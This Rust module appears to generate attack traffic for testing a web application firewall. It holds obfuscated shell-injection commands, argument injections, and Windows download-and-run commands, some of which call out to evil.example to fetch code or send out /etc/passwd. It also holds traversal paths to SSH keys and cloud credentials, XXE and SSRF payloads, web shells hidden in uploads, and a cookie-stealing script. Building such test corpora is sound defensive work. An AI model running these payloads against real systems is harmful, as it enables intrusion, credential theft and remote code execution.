//! Attacks on shells, files and addresses, in other shapes than files.rs and code.rs.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{Part, Wire, multipart};

const SHELL: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::Hex,
];
const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];
const PATHS: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::Overlong,
    Encoding::JsonEscape,
];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("shell-obfuscated", AttackClass::Shell, 90, obfuscated, Place::PARAMETERS, SHELL),
    payload("shell-arguments", AttackClass::Shell, 55, arguments, Place::INPUTS, PLAIN),
    request("shellshock-and-cgi", AttackClass::Shell, 35, cgi),
    payload("shell-powershell-cmd", AttackClass::Shell, 45, windows, Place::INPUTS, PLAIN),
    payload(
        "traversal-java-servers",
        AttackClass::Traversal,
        60,
        servers,
        &[Place::Path, Place::Query, Place::Form],
        PATHS,
    ),
    payload(
        "traversal-inclusion",
        AttackClass::Traversal,
        60,
        inclusion,
        &[Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Multipart, Place::Xml],
        PATHS,
    ),
    request("zip-and-name-slip", AttackClass::Traversal, 30, slip),
    request("xxe-hidden", AttackClass::Xxe, 55, xxe),
    payload("ssrf-respelled-hosts", AttackClass::Ssrf, 60, ssrf, Place::INPUTS, PLAIN),
    request("upload-evasive", AttackClass::Upload, 55, upload),
    request("scanner-probes", AttackClass::Scanner, 45, probes),
];

/// Commands spelled with what a shell takes away: quotes, backslashes, globs, variables, encodings.
fn obfuscated(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let lead = rng.pick(&[";", "|", "\n", "&&", "||", "x;"]);
    let run = match rng.below(15) {
        0 => "c''at /et''c/pas''swd".to_owned(),
        1 => "c\\at /e\\tc/pas\\swd".to_owned(),
        2 => "/???/??t /???/p??s??".to_owned(),
        3 => "cat$IFS/etc/passwd".to_owned(),
        4 => "{cat,/etc/passwd}".to_owned(),
        5 => "a=c;b=at;$a$b /etc/passwd".to_owned(),
        6 => format!("echo {}|base64 -d|sh", codec::base64(format!("id;echo {word}"))),
        7 => "cat ${HOME:0:1}etc${HOME:0:1}passwd".to_owned(),
        8 => format!("$(printf '\\143\\141\\164') /etc/hosts #{word}"),
        9 => "cat</etc/passwd".to_owned(),
        10 => "w`u`h`u`o`u`a`u`mi".to_owned(),
        11 => "rev<<<'dwssap/cte/ tac'|sh".to_owned(),
        12 => format!("$(tr '!-}}' '\"-~'<<<'vgnbnh')$(:{word})"),
        13 => "uname${IFS}-a".to_owned(),
        _ => "wh$@oa$@mi".to_owned(),
    };
    format!("{lead}{run}{}", rng.pick(&["", "", ";", " #", &format!("|tee /tmp/{word}")])).into_bytes()
}

/// Options that make a harmless program run another one; no separator needed.
fn arguments(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    match rng.below(11) {
        0 => format!("--upload-pack=touch /tmp/{word}"),
        1 => format!("-oProxyCommand=curl evil.example/{word}|sh x"),
        2 => format!("--checkpoint=1 --checkpoint-action=exec=sh {word}.sh"),
        3 => format!("-o /var/www/html/{word}.php http://evil.example/a.txt"),
        4 => format!("--use-askpass=/tmp/{word}.sh http://0.0.0.0"),
        5 => format!("ext::sh -c touch% /tmp/{word}"),
        6 => format!("--post-file=/etc/passwd http://evil.example/{word}"),
        7 => format!("-e'exec(\"id>/tmp/{word}\")'"),
        8 => format!("a -exec sh -c 'id>/tmp/{word}' ;"),
        9 => format!("--config=core.sshCommand=touch /tmp/{word}"),
        _ => format!("'+-write |touch /tmp/{word}"),
    }
    .into_bytes()
}

fn cgi(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(4);
    let run = rng.pick(&[
        "/bin/cat /etc/passwd",
        "/usr/bin/id",
        "/bin/ping -c 3 198.51.100.2",
        "/usr/bin/wget http://evil.example/a",
    ]);
    match rng.below(4) {
        0 => (
            Wire::get(format!("/cgi-bin/{word}.sh"))
                .header("User-Agent", format!("() {{ :;}}; echo; {run}"))
                .finish(rng),
            Place::Header,
            Encoding::Plain,
        ),
        1 => (
            Wire::get(format!("/cgi-bin/status?{word}"))
                .header("Referer", format!("() {{ ignored;}};{run}"))
                .program("curl/7.88.1")
                .finish(rng),
            Place::Header,
            Encoding::Plain,
        ),
        2 => (
            Wire::get(format!("/cgi-bin/{}%2e%2e/%2e%2e/%2e%2e/bin/sh?{word}", ".%2e/".repeat(rng.between(2, 6))))
                .program("python-requests/2.28.1")
                .finish(rng),
            Place::Path,
            Encoding::Percent,
        ),
        _ => (
            Wire::get(format!(
                "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$({})",
                codec::percent(format!("{run}>/tmp/{word}"))
            ))
            .program("Go-http-client/1.1")
            .finish(rng),
            Place::Query,
            Encoding::Percent,
        ),
    }
}

fn windows(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    let lead = rng.pick(&["|", "&", "%0a", "x & ", "\n"]);
    let run = match rng.below(9) {
        0 => "c^m^d /c who^ami".to_owned(),
        1 => "%COMSPEC% /c set".to_owned(),
        2 => format!("pow\"\"ershell -e {}", codec::base64(&codec::utf16_le(&format!("calc {word}"))[2..])),
        3 => format!(
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://evil.example/{word}\")"
        ),
        4 => format!("regsvr32 /s /n /u /i:http://evil.example/{word}.sct scrobj.dll"),
        5 => format!("wmic process call create \"cmd /c calc {word}\""),
        6 => format!("powershell IWR evil.example/{word} -OutFile C:\\Windows\\Temp\\{word}.exe"),
        7 => format!("schtasks /create /tn {word} /tr calc.exe /sc minute"),
        _ => format!("for /f \"tokens=*\" %a in ('whoami') do nslookup %a.{word}.evil.example"),
    };
    format!("{lead}{run}").into_bytes()
}

/// Paths that proxies and Java servers take apart differently.
fn servers(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let up = rng.between(2, 6);
    match rng.below(10) {
        0 => format!("{word}/..;/..;/manager/html"),
        1 => format!("{word}/;/WEB-INF/web.xml"),
        2 => format!("{word}/%2e/WEB-INF/classes/application.yml"),
        3 => format!("{}console/css/%252e%252e%252fconsole.portal?{word}", "../".repeat(up)),
        4 => format!("..%5c..%5c{}windows/win.ini", "..%5c".repeat(up)),
        5 => format!("{word}//..//..//..//..//{}etc//passwd", "..//".repeat(up)),
        6 => format!("{}.//etc/./passwd", "../".repeat(up + 2)),
        7 => format!("{word}/..\\..\\..\\{}etc/shadow", "..\\".repeat(up)),
        8 => format!("static../{}.ssh/id_rsa", "../".repeat(up)),
        _ => format!(".svn/../{}.aws/credentials", "../".repeat(up)),
    }
    .into_bytes()
}

/// Local and remote inclusion: logs, sessions, wrappers, archives.
fn inclusion(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let up = "../".repeat(rng.between(3, 9));
    match rng.below(12) {
        0 => format!("{up}var/lib/php/sessions/sess_{}", rng.hex(26)),
        1 => format!("{up}usr/local/lib/php/pearcmd"),
        2 => format!("{up}var/log/vsftpd.log\0{word}"),
        3 => format!("zip://{up}tmp/{word}.jpg#a.php"),
        4 => format!("glob://{up}var/www/*.{word}"),
        5 => format!("expect://id;{word}"),
        6 => format!("{up}opt/tomcat/conf/tomcat-users.xml"),
        7 => format!("{up}home/{word}/.ssh/authorized_keys"),
        8 => format!("php://filter/read=string.rot13|convert.iconv.utf-8.utf-7/resource={up}config.php"),
        9 => format!("\\\\evil.example\\{word}\\a.php"),
        10 => format!("{up}run/secrets/kubernetes.io/serviceaccount/token"),
        _ => format!("{up}proc/{}/maps", rng.below(9)),
    }
    .into_bytes()
}

/// Names of uploaded files and archive entries that leave the folder.
fn slip(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let up = "../".repeat(rng.between(2, 8));
    let name = match rng.below(5) {
        0 => format!("{up}var/www/html/{word}.txt"),
        1 => format!("{up}root/.ssh/authorized_keys"),
        2 => format!("..\\..\\..\\inetpub\\wwwroot\\{word}.txt"),
        3 => format!("{up}etc/cron.d/{word}"),
        _ => format!("{up}{word}/../../WEB-INF/{word}.xml"),
    };
    let noise = rng.bytes(40);
    let (content_type, body) =
        multipart(&[Part::field("remark", "ok"), Part::file("file", &name, "text/plain", noise)], rng);
    (
        Wire::post("/api/files", &content_type, body).program("python-requests/2.31.0").finish(rng),
        Place::Multipart,
        Encoding::Plain,
    )
}

fn xxe(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let (word, entity) = (rng.letters(4), rng.letters(3));
    let document = match rng.below(5) {
        0 => {
            format!("<!DOCTYPE {word} [<!ENTITY\t{entity}\nSYSTEM\n'file:///etc/passwd'>]><{word}>&{entity};</{word}>")
        }
        1 => format!(
            "<!DOCTYPE {word} [<!ENTITY % {entity} PUBLIC \"a\" \"ftp://evil.example:2121/{word}\">%{entity};]><{word}/>"
        ),
        2 => format!(
            "<!DOCTYPE {word} [<!ENTITY % a '<!ENTITY &#37; {entity} SYSTEM \"file:///proc/self/environ\">'>%a;%{entity};]><{word}/>"
        ),
        3 => format!(
            "<!DOCTYPE {word} [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM \"file:///etc/{entity}\">&#x25;file;'>%local;]><{word}/>"
        ),
        _ => format!(
            "<!-- {word} --><!DOCTYPE svg [<!ELEMENT svg ANY><!ENTITY {entity} SYSTEM \"https://evil.example/{word}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&{entity};</text></svg>"
        ),
    };
    match rng.below(5) {
        // The same document in another encoding: parsers find it out by themselves.
        0 => (
            Wire::post(
                "/soap",
                "text/xml",
                codec::utf16_be(&format!("<?xml version=\"1.0\" encoding=\"UTF-16BE\"?>{document}")),
            )
            .program("Java/11.0.2")
            .finish(rng),
            Place::Xml,
            Encoding::Combined,
        ),
        1 => (
            Wire::post(
                "/soap",
                "application/xml; charset=utf-16",
                codec::utf16_le(&format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{document}")),
            )
            .program("Java/11.0.2")
            .finish(rng),
            Place::Xml,
            Encoding::Combined,
        ),
        2 => (
            Wire::post(
                "/sso/acs",
                "application/x-www-form-urlencoded",
                format!("SAMLResponse={}", codec::form(codec::base64(&document))),
            )
            .desktop(rng)
            .finish(rng),
            Place::Form,
            Encoding::Base64,
        ),
        3 => {
            let docx =
                [b"PK\x03\x04\x0a\x00\x00\x00\x00\x00word/document.xml".as_slice(), document.as_bytes(), b"PK\x01\x02"]
                    .concat();
            let (kind, body) = multipart(
                &[Part::file(
                    "doc",
                    "report.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    docx,
                )],
                rng,
            );
            (Wire::post("/import/word", &kind, body).desktop(rng).finish(rng), Place::Multipart, Encoding::Plain)
        }
        _ => (
            Wire::post("/rpc", rng.pick(&["application/xml", "application/rss+xml", ""]), document)
                .program("Go-http-client/1.1")
                .finish(rng),
            Place::Xml,
            Encoding::Plain,
        ),
    }
}

/// The same machines under other names.
fn ssrf(rng: &mut Rng) -> Vec<u8> {
    let (word, port) = (rng.letters(4), rng.pick(&["", ":80", ":8080", ":6379", ":9200"]));
    match rng.below(13) {
        0 => format!("http://2852039166/latest/meta-data/{word}"),
        1 => format!("http://0xa9fea9fe{port}/{word}"),
        2 => format!("http://0251.0376.0251.0376/{word}"),
        3 => format!("http://[::ffff:169.254.169.254]/{word}"),
        4 => format!("http://[::]{port}/{word}"),
        5 => format!("http://0x7f.1{port}/{word}"),
        6 => format!("http://017700000001{port}/{word}"),
        7 => format!("http://2130706433{port}/{word}"),
        8 => format!("http://169.254.169.254.nip.io/{word}"),
        9 => format!("http://www.boai.example@169.254.169.254/{word}"),
        10 => format!("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/{word}"),
        11 => format!("http://[fd00:ec2::254]/latest/{word}"),
        _ => format!("http://169.254.43518/latest/{word}"),
    }
    .into_bytes()
}

fn upload(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let cases = [
        (".htaccess".to_owned(), "text/plain", "AddType application/x-httpd-php .jpg\n".to_owned()),
        (".user.ini".to_owned(), "text/plain", format!("auto_prepend_file={word}.gif\n")),
        ("web.config".to_owned(), "text/xml", "<configuration><system.webServer><handlers><add name=\"x\" path=\"*.jpg\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\"/></handlers></system.webServer></configuration>".to_owned()),
        (format!("{word}.pHp5"), "image/png", format!("\u{89}PNG\n<?=$_GET[{word}]($_POST[1]);")),
        (format!("{word}.gif"), "image/gif", format!("GIF89a;<script language=\"php\">system($_GET['{word}']);</script>")),
        (format!("{word}.svg"), "image/svg+xml", format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('{word}')\"/>")),
        (format!("{word}.jsp%00.jpg"), "image/jpeg", format!("<%@page import=\"javax.crypto.*\"%><%!class U extends ClassLoader{{U(ClassLoader c){{super(c);}}}}%><%new U(this.getClass().getClassLoader()).toString();//{word}%>")),
        (format!("{word}.ashx"), "application/octet-stream", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>using System.Web;using System.Diagnostics;public class H:IHttpHandler{public void ProcessRequest(HttpContext c){Process.Start(c.Request[\"c\"]);}}".to_owned()),
        (format!("{word}.php."), "image/jpeg", format!("<?php $f='ass'.'ert';$f($_POST['{word}']);")),
        (format!("{word}.war"), "application/java-archive", "PK\x03\x04\x14\x00WEB-INF/web.xmlPK\x03\x04a.jsp<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>".to_owned()),
        (format!("{word}.cer"), "image/jpeg", format!("<%execute(request(\"{word}\"))%>")),
        (format!("{word}.html"), "text/html", format!("<html><script>fetch('//evil.example/'+document.cookie)//{word}</script></html>")),
    ];
    let (name, kind, content) = rng.pick(&cases.each_ref());
    let (content_type, body) = multipart(
        &[
            Part::file(rng.pick(&["upload", "fileData", "img"]), name, kind, content.clone()),
            Part::field("n", word.clone()),
        ],
        rng,
    );
    (
        Wire::post(rng.pick(&["/common/upload", "/admin/upload.action", "/oa/file/add.do"]), &content_type, body)
            .desktop(rng)
            .finish(rng),
        Place::Multipart,
        Encoding::Plain,
    )
}

/// Questions that only somebody asks who looks for a way in.
fn probes(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let path = rng.pick(&[
        "/.git/HEAD",
        "/.env",
        "/.svn/entries",
        "/wp-config.php.bak",
        "/phpinfo.php",
        "/web.config.old",
        "/.DS_Store",
        "/actuator/heapdump",
        "/actuator/env",
        "/solr/admin/cores?wt=json",
        "/jmx-console/",
        "/.aws/credentials",
        "/backup.sql",
        "/www.zip",
        "/druid/index.html",
        "/nacos/v1/auth/users?pageNo=1&pageSize=1",
        "/manager/html",
        "/cgi-bin/test-cgi",
        "/server-status",
        "/.vscode/sftp.json",
        "/config/database.yml",
        "/id_rsa",
        "/console/login/LoginForm.jsp",
        "/_ignition/execute-solution",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ]);
    let prefix = rng.pick(&["", "", "/app", "/his", "/web", "/api"]);
    (
        Wire::get(format!("{prefix}{path}"))
            .program(rng.pick(&[
                "Mozilla/5.0 zgrab/0.x",
                "python-requests/2.27.1",
                "Go-http-client/1.1",
                "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
            ]))
            .finish(rng),
        Place::Path,
        Encoding::Plain,
    )
}
